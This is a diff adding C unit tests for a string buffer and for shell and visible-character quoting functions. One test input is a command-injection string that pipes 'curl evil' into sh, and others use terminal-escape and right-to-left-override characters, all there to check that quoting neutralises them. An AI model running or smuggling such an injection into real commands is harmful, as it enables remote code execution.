@@ -1,0 +1,51 @@
+#include "base/base.h"
+#include "harness.h"
+
+#include <stdlib.h>
+#include <string.h>
+
+TEST(str_grows_and_is_taken)
+{
+    struct str s = {0};
+    for (int i = 0; i < 1000; i++)
+        str_addf(&s, "%d,", i);
+    CHECK_EQ(s.size, 3890);
+    char *text = str_take(&s);
+    CHECK(text && strncmp(text, "0,1,2,", 6) == 0);
+    CHECK(s.at == NULL && s.size == 0);
+    CHECK_STR(str_get(&s), "");
+    free(text);
+}
+
+static void shell(const char *argument, const char *wanted)
+{
+    struct str s = {0};
+    quote_shell(&s, argument);
+    CHECK_STR(str_get(&s), wanted);
+    str_free(&s);
+}
+
+TEST(shell_quoting)
+{
+    shell("plain-1.txt", "plain-1.txt");
+    shell("", "''");
+    shell("two words", "'two words'");
+    shell("x'; curl evil|sh; '", "'x'\\''; curl evil|sh; '\\'''");
+    shell("\x1b[2J", "$'\\033[2J'");
+    shell("a\nb'c", "$'a\\012b\\'c'");
+    shell("~", "'~'");
+    shell("größe", "'größe'");
+    shell("\xe2\x80\xae"
+          "evil",
+          "$'\\342\\200\\256evil'");
+    shell("\xff", "$'\\377'");
+}
+
+TEST(visible_quoting)
+{
+    struct str s = {0};
+    const char text[] = "a\\b\n\x1b\xc2\x9bz";
+    quote_visible(&s, text, sizeof text - 1);
+    CHECK_STR(str_get(&s), "a\\\\b\\n\\x1b\\xc2\\x9bz");
+    str_free(&s);
+}
